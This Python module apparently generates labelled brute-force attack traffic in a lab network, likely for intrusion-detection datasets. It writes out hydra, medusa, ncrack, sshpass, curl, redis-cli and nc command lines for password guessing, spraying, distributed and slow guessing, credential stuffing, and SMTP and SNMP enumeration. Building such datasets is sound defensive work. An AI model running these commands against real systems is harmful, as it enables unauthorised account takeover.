"""Guessing passwords, community names and users."""

from shlex import quote

from attacks import words
from attacks.aim import Aim, aim, has_ipv6
from attacks.attack import Campaign, Rule, attack
from attacks.steps import script, script_text
from servers.accounts import LABUSER, MARIA, SNMP_COMMUNITY, SQL_USER, SYSTEM_USERS, WEB_USERS

_SSH = "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password"
_SSH += " -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 -o LogLevel=ERROR"

_SSH_HOSTS = ("web", "files", "db")


def _mariadb(world):
    return world.variant.software["sql"] == "mariadb"


def _postgresql(world):
    return not _mariadb(world)


def _guesses(chance, count, account, kind):
    """A list for one account; in half of the draws the right password ends it, which the subtype then says."""
    user, right = account
    succeeds = chance.random() < 0.5
    return user, words.passwords(chance, count, right if succeeds else None), f"{kind}-success" if succeeds else kind


def _campaign(aimed, text, port, subtype, files=None, good=(0,), proto="tcp", seconds=57, least=30):
    step = script(aimed.actor, "guess.sh", seconds=seconds, good=good)
    return Campaign(
        steps=(step,),
        rules=(aimed.rule(port, proto, subtype=subtype),),
        entities=(aimed.source,),
        victims=(aimed.seen,),
        # The server may close its end of refused connections seconds later.
        files={"guess.sh": script_text(*text, "sleep 3"), **(files or {})},
        least_packets=least,
    )


def _hydra(aimed, what, user, guesses, port, subtype, tasks, *options, proto="tcp", good=(0,), least=30):
    who = f"-l {user}" if user else ""
    line = f"hydra -I {who} -P passwords -t {tasks} {' '.join(map(str, options))} {what}://{aimed.url_host}"
    return _campaign(aimed, [line], port, subtype, {"passwords": words.lines(guesses)}, good, proto, least=least)


@attack("brute-force", "SSHBruteForce", "hydra", "ssh")
def hydra_ssh(chance, world):
    aimed = aim(chance, world, _SSH_HOSTS, ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(8, 22), LABUSER, "ssh")
    return _hydra(aimed, "ssh", user, guesses, 22, subtype, chance.choice((2, 3, 4)), good=(0, None))


@attack("brute-force", "SSHBruteForce", "hydra", "ssh", fits=has_ipv6)
def hydra_ssh_ipv6(chance, world):
    aimed = aim(chance, world, _SSH_HOSTS, ("insider", "compromised"), ipv6=True)
    user, guesses, subtype = _guesses(chance, chance.randint(8, 20), LABUSER, "ssh")
    return _hydra(aimed, "ssh", user, guesses, 22, subtype, chance.choice((2, 4)), "-6", good=(0, None))


@attack("brute-force", "SSHBruteForce", "hydra", "ssh-spraying")
def hydra_ssh_spraying(chance, world):
    """One password for many users, so that no account is locked."""
    aimed = aim(chance, world, _SSH_HOSTS, first=True)
    files = {"users": words.lines(words.users(chance, chance.randint(10, 20)))}
    password = quote(chance.choice(words.passwords(chance, 20)))
    text = [f"hydra -I -L users -p {password} -t {chance.choice((2, 4))} ssh://{aimed.at}"]
    return _campaign(aimed, text, 22, "ssh-spraying", files, (0, None))


@attack("brute-force", "SSHBruteForce", "sshpass", "ssh")
def ssh_loop(chance, world):
    """One connection for one password, at uneven intervals; after the right one a look around."""
    aimed = aim(chance, world, _SSH_HOSTS, ("outsider", "insider", "compromised"))
    user, guesses, subtype = _guesses(chance, chance.randint(6, 12), LABUSER, "ssh")
    return _campaign(aimed, _ssh_lines(chance, [aimed] * len(guesses), user, guesses, 1), 22, subtype, good=(0, None))


def _ssh_lines(chance, aims, user, guesses, longest):
    """aims: for each guess, whence it comes"""
    return [
        f"sshpass -p {quote(guess)} {_SSH} -b {aimed.source} {user}@{aimed.at} 'id; uname -a; ls -la'"
        f"; sleep {round(chance.uniform(0, longest), 2)}"
        for aimed, guess in zip(aims, guesses)
    ]


@attack("brute-force", "SSHBruteForce", "sshpass", "ssh-distributed")
def ssh_from_the_swarm(chance, world):
    """Each guess from another address."""
    aims, user, guesses, subtype = _swarm_guesses(chance, world, chance.randint(10, 14))
    return _swarm_campaign(aims, _ssh_lines(chance, aims, user, guesses, 1), subtype, 57)


@attack("brute-force", "SSHBruteForce", "sshpass", "ssh-distributed-slow", seconds=2400, slow=True)
def slow_ssh_from_the_swarm(chance, world):
    period = chance.randint(8, 30)
    aims, user, guesses, subtype = _swarm_guesses(chance, world, min(110, chance.randint(600, 1500) // period))
    return _swarm_campaign(aims, _ssh_lines(chance, aims, user, guesses, period), subtype, 2390)


def _swarm_guesses(chance, world, count):
    swarm = world["swarm"]
    target = world[chance.choice(_SSH_HOSTS)]
    user, guesses, subtype = _guesses(chance, count, LABUSER, "ssh-distributed")
    aims = [Aim(swarm, chance.choice(swarm.v4), target, world.reach(target, swarm)) for _ in guesses]
    return aims, user, guesses, subtype


def _swarm_campaign(aims, text, subtype, seconds):
    """Together with a loop that ends early if a guess takes long."""
    sources = tuple(dict.fromkeys(aimed.source for aimed in aims))
    target = aims[0].target
    step = script(aims[0].actor, "guess.sh", seconds=seconds, good=(0, None))
    rules = (Rule(";".join(sources), target.ip, "22", "tcp", subtype=subtype),)
    return Campaign((step,), rules, sources, (target.ip,), {"guess.sh": script_text(*text, "sleep 3")}, 60)


@attack("brute-force", "FTPBruteForce", "hydra", "ftp")
def hydra_ftp(chance, world):
    aimed = aim(chance, world, ("files",), ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 40), LABUSER, "ftp")
    return _hydra(aimed, "ftp", user, guesses, 21, subtype, chance.choice((2, 4, 6, 8)), good=(0, None))


@attack("brute-force", "FTPBruteForce", "curl", "ftp")
def curl_ftp(chance, world):
    """The listing that follows the right password is the attack's as well."""
    aimed = aim(chance, world, ("files",))
    user, guesses, subtype = _guesses(chance, chance.randint(7, 14), LABUSER, "ftp")
    text = [
        f"curl -sS -m 8 --interface {aimed.source} -u {quote(user + ':' + guess)} ftp://{aimed.at}/"
        f"; sleep {round(chance.uniform(0, 1), 2)}"
        for guess in guesses
    ]
    return _campaign(aimed, text, "21;40000-40099", subtype, good=(0, None))


@attack("brute-force", "HTTPBruteForce", "hydra", "http-form")
def hydra_http(chance, world):
    aimed = aim(chance, world, ("web",), ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(30, 90), MARIA, "http-form")
    form = "/app/login:user=^USER^&pass=^PASS^:Login failed"
    tls = chance.random() < 0.3
    options = ("-w", 10, "-c", 1) if chance.random() < 0.3 else ()
    if options:
        guesses = guesses[-35:]
    what = "https-post-form" if tls else "http-post-form"
    line = f"hydra -I -l {user} -P passwords -t {chance.choice((1, 2, 4, 8))} {' '.join(map(str, options))}"
    line += f" {aimed.at} {what} {quote(form)}"
    files = {"passwords": words.lines(guesses)}
    return _campaign(aimed, [line], 443 if tls else 80, subtype, files, (0, None))


@attack("brute-force", "HTTPBruteForce", "curl", "http-form")
def curl_http(chance, world):
    """A new connection for each guess, or one for all."""
    aimed = aim(chance, world, ("web",), ("outsider", "insider", "swarm"))
    user, guesses, subtype = _guesses(chance, chance.randint(20, 80), MARIA, "http-form")
    tls = chance.random() < 0.4
    url = f"{'https' if tls else 'http'}://{aimed.at}/app/login"
    curl = f"curl -k -s -o /dev/null -m 5 --interface {aimed.source} -A {quote(words.agent(chance))}"
    posts = [
        f"--data-urlencode {quote('user=' + user)} --data-urlencode {quote('pass=' + guess)} {url}" for guess in guesses
    ]
    if chance.random() < 0.4:
        text = [curl + " " + " --next -k -s -o /dev/null ".join(posts)]
    else:
        longest = chance.uniform(0.05, 0.5)
        text = [f"{curl} {post}; sleep {round(chance.uniform(0, longest), 2)}" for post in posts]
    return _campaign(aimed, text, 443 if tls else 80, subtype, good=(0, None))


@attack("brute-force", "HTTPBruteForce", "curl", "http-stuffing")
def credential_stuffing(chance, world):
    """Pairs of a name and a password out of another site's theft, from many addresses."""
    swarm = world["swarm"]
    sources = chance.sample(swarm.v4, chance.randint(4, 14))
    at = world.reach(world["web"], swarm)
    count = chance.randint(20, 60)
    pairs = [
        (chance.choice([*WEB_USERS, *words.users(chance, 5)]), words.passwords(chance, 1)[0]) for _ in range(count)
    ]
    text = [
        f"curl -s -o /dev/null -m 5 --interface {chance.choice(sources)} -A {quote(words.agent(chance))}"
        f" -d user={quote(user)} --data-urlencode {quote('pass=' + password)} http://{at}/app/login"
        f"; sleep {round(chance.uniform(0, 0.8), 2)}"
        for user, password in pairs
    ]
    step = script(swarm, "guess.sh", seconds=57, good=(0, None))
    rules = (Rule(";".join(sources), world["web"].ip, "80", "tcp"),)
    files = {"guess.sh": script_text(*text, "sleep 2")}
    return Campaign((step,), rules, tuple(sources), (world["web"].ip,), files, 100)


@attack("brute-force", "HTTPBruteForce", "curl", "http-slow", seconds=2400, slow=True)
def slow_curl_http(chance, world):
    aimed = aim(chance, world, ("web",))
    period = chance.randint(4, 20)
    user, guesses, subtype = _guesses(chance, min(110, chance.randint(500, 1500) // period), MARIA, "http-slow")
    text = [
        f"curl -s -o /dev/null -m 5 --interface {aimed.source} -d user={user} --data-urlencode {quote('pass=' + guess)}"
        f" http://{aimed.at}/app/login; sleep {round(period * chance.uniform(0.5, 1.5), 1)}"
        for guess in guesses
    ]
    return _campaign(aimed, text, 80, subtype, good=(0, None), seconds=2390)


@attack("brute-force", "SQLBruteForce", "hydra", "mysql", fits=_mariadb)
def hydra_mysql(chance, world):
    aimed = aim(chance, world, ("db",), ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 60), SQL_USER, "mysql")
    return _hydra(aimed, "mysql", user, guesses, 3306, subtype, chance.choice((1, 2, 4)), good=(0, None))


@attack("brute-force", "SQLBruteForce", "hydra", "postgres", fits=_postgresql)
def hydra_postgres(chance, world):
    aimed = aim(chance, world, ("db",), ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 60), SQL_USER, "postgres")
    return _hydra(aimed, "postgres", user, guesses, 5432, subtype, chance.choice((1, 2, 4)), good=(0, None))


@attack("brute-force", "SQLBruteForce", "sql-client", "sql")
def sql_client_loop(chance, world):
    """The database's own client, once for each password."""
    aimed = aim(chance, world, ("db",), ("outsider", "insider", "compromised"), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 40), SQL_USER, "sql")
    if _mariadb(world):
        client, port = f"mysql --skip-ssl --connect-timeout=5 -h {aimed.at} -u {user} -p{{}} -e 'show databases'", 3306
    else:
        client, port = f"PGPASSWORD={{}} PGCONNECT_TIMEOUT=5 psql -w -h {aimed.at} -U {user} -d shop -c '\\dt'", 5432
    text = [client.format(quote(guess)) + f"; sleep {round(chance.uniform(0, 0.7), 2)}" for guess in guesses]
    return _campaign(aimed, text, port, subtype, good=(0, None))


@attack("brute-force", "RedisBruteForce", "redis-cli", "redis")
def redis_auth(chance, world):
    aimed = aim(chance, world, ("db",), first=True)
    guesses = words.passwords(chance, chance.randint(20, 60))
    text = [
        f"redis-cli -h {aimed.at} AUTH {quote(guess)}; sleep {round(chance.uniform(0, 0.3), 2)}" for guess in guesses
    ]
    return _campaign(aimed, text, 6379, "redis", good=(0, None))


@attack("brute-force", "RedisBruteForce", "nc", "redis")
def redis_auth_in_one(chance, world):
    """All guesses on one connection."""
    aimed = aim(chance, world, ("db",))
    guesses = words.passwords(chance, chance.randint(30, 110))
    pause = round(chance.uniform(0.05, 0.3), 2)
    line = f'while read word; do echo "AUTH $word"; sleep {pause}; done < words | nc -n -N -w 3 -s {aimed.source} {aimed.at} 6379'
    return _campaign(aimed, [line], 6379, "redis", {"words": words.lines(guesses)}, (0, 1, None))


@attack("brute-force", "MailBruteForce", "hydra", "smtp-users")
def smtp_users(chance, world):
    """Asks the mail server which users there are."""
    aimed = aim(chance, world, ("infra",), first=True)
    names = words.users(chance, chance.randint(8, 20)) + chance.sample(sorted(SYSTEM_USERS), 2)
    how = chance.choice(("VRFY", "RCPT"))
    files = {"users": words.lines(names)}
    line = f"hydra -I -L users -p corp.example -t {chance.choice((1, 2, 4))} smtp-enum://{aimed.at}/{how}"
    return _campaign(aimed, [line], 25, "smtp-users", files, (0, 255, None))


@attack("brute-force", "MailBruteForce", "nc", "smtp-users")
def smtp_recipients(chance, world):
    """Begins a mail to one name after the other, on one connection, and never sends it."""
    aimed = aim(chance, world, ("infra",))
    names = words.users(chance, chance.randint(12, 26)) + chance.sample(sorted(SYSTEM_USERS), 2)
    pause = round(chance.uniform(0.1, 1), 2)
    talk = "printf 'EHLO mail.example\\r\\nMAIL FROM:<info@mail.example>\\r\\n'; sleep 1"
    talk += f"; while read name; do printf 'RCPT TO:<%s@corp.example>\\r\\n' $name; sleep {pause}; done < users"
    line = f"({talk}; printf 'QUIT\\r\\n') | nc -n -N -w 3 -s {aimed.source} {aimed.at} 25"
    return _campaign(aimed, [line], 25, "smtp-users", {"users": words.lines(names)}, (0, None))


_COMMUNITIES = """
private manager admin cisco snmp monitor secret default read write network test guest community agent core router
switch security system internal all rmon cable-docsis ilmi tivoli openview snmpd trap
""".split()


def _communities(chance, count):
    drawn = chance.sample(_COMMUNITIES, count)
    return drawn + [SNMP_COMMUNITY] if chance.random() < 0.5 else drawn


@attack("brute-force", "SNMPBruteForce", "hydra", "snmp")
def hydra_snmp(chance, world):
    aimed = aim(chance, world, ("infra", "web", "files"), first=True)
    guesses = _communities(chance, chance.randint(10, 16))
    return _hydra(aimed, "snmp", "", guesses, 161, "snmp", chance.choice((1, 2)), proto="udp", good=(0, None), least=10)


@attack("brute-force", "SNMPBruteForce", "snmpget", "snmp")
def snmp_loop(chance, world):
    aimed = aim(chance, world, ("infra", "web", "files"), first=True)
    guesses = _communities(chance, chance.randint(15, 26))
    text = [
        f"snmpget -v {chance.choice(('1', '2c'))} -r 0 -t 1 -c {guess} {aimed.at} 1.3.6.1.2.1.1.1.0"
        for guess in guesses
    ]
    return _campaign(aimed, text, 161, "snmp", proto="udp", good=(0, None), least=15)


@attack("brute-force", "SSHBruteForce", "medusa", "ssh")
def medusa_ssh(chance, world):
    aimed = aim(chance, world, _SSH_HOSTS, first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(8, 16), LABUSER, "ssh")
    return _medusa(aimed, "ssh", user, guesses, 22, subtype, chance.choice((1, 2, 3)))


@attack("brute-force", "FTPBruteForce", "medusa", "ftp")
def medusa_ftp(chance, world):
    aimed = aim(chance, world, ("files",), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 20), LABUSER, "ftp")
    return _medusa(aimed, "ftp", user, guesses, 21, subtype, chance.choice((2, 4)))


@attack("brute-force", "HTTPBruteForce", "medusa", "http-form")
def medusa_http(chance, world):
    aimed = aim(chance, world, ("web",), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(20, 60), MARIA, "http-form")
    options = "-m FORM:app/login -m DENY-SIGNAL:'Login failed' -m FORM-DATA:'post?user=&pass='"
    return _medusa(aimed, "web-form", user, guesses, 80, subtype, chance.choice((1, 2, 4)), options)


@attack("brute-force", "SQLBruteForce", "medusa", "sql")
def medusa_sql(chance, world):
    aimed = aim(chance, world, ("db",), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 40), SQL_USER, "sql")
    module, port = ("mysql", 3306) if _mariadb(world) else ("postgres", 5432)
    options = "-m DB:shop" if module == "postgres" else ""
    return _medusa(aimed, module, user, guesses, port, subtype, chance.choice((1, 2)), options)


def _medusa(aimed, module, user, guesses, port, subtype, tasks, options=""):
    line = f"medusa -h {aimed.at} -u {user} -P passwords -M {module} -t {tasks} {options}"
    return _campaign(aimed, [line], port, subtype, {"passwords": words.lines(guesses)}, (0, None))


@attack("brute-force", "SQLBruteForce", "ncrack", "mysql", fits=_mariadb)
def ncrack_sql(chance, world):
    aimed = aim(chance, world, ("db",), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 40), SQL_USER, "mysql")
    return _ncrack(chance, aimed, "mysql", user, guesses, 3306, subtype)


@attack("brute-force", "FTPBruteForce", "ncrack", "ftp")
def ncrack_ftp(chance, world):
    aimed = aim(chance, world, ("files",), first=True)
    user, guesses, subtype = _guesses(chance, chance.randint(10, 25), LABUSER, "ftp")
    return _ncrack(chance, aimed, "ftp", user, guesses, 21, subtype)


def _ncrack(chance, aimed, service, user, guesses, port, subtype):
    line = f"ncrack -v --user {user} -P passwords {service}://{aimed.at}:{port},CL={chance.randint(2, 5)},at=1,to=50s"
    return _campaign(aimed, [line], port, subtype, {"passwords": words.lines(guesses)}, (0, None))
